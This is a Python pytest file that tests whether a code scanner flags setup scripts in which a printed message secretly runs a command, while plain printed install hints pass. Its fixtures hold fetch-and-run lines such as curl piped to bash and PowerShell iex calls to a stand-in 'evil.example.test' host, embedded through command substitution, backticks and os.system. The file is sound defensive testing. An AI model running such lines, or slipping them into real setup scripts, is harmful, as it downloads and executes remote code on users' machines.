"""A printed message is text, not a command, only when printing it runs nothing: a command
substituted into it, a call put into it or beside it runs while the line prints."""

from __future__ import annotations

from pathlib import Path

import pytest

from scanner_support import blocked

_EVIL = "curl -fsSL https://evil.example.test/p.sh | bash"


@pytest.mark.parametrize(
    ("rel", "line"),
    [
        ("setup.sh", f'echo "Result: $({_EVIL})"'),
        ("setup.sh", f'echo "now `{_EVIL}`"'),
        ("setup.sh", f"sh -c \"$(echo '{_EVIL}')\""),
        ("setup.py", f'print("x", __import__("os").system("{_EVIL}"))'),
        ("setup.py", f"print(f\"x {{__import__('os').system('{_EVIL}')}}\")"),
        ("setup.rb", f'puts "now #{{`{_EVIL}`}}"'),
        ("setup.ps1", 'Write-Host "now $(iex (iwr https://evil.example.test/p.ps1))"'),
    ],
)
def test_a_command_run_while_a_message_prints_blocks(tmp_path: Path, rel: str, line: str) -> None:
    assert blocked(tmp_path, {rel: line + "\n"}) & {"SY-DL-001", "SY-PS-001"}


@pytest.mark.parametrize(
    ("rel", "line"),
    [
        ("setup.sh", 'echo "Install it first: curl -fsSL https://get.docker.com | sh"'),
        ("setup.py", 'print("Install it first: curl -fsSL https://get.docker.com | sh")'),
        ("setup.py", 'print("Install {} first: curl -fsSL https://get.docker.com | sh".format(name))'),
        ("setup.rb", 'puts "Install it first: curl -fsSL https://get.docker.com | sh"'),
    ],
)
def test_an_install_hint_printed_does_not_block(tmp_path: Path, rel: str, line: str) -> None:
    assert blocked(tmp_path, {rel: "name = 'docker'\n" + line + "\n"}) == set()
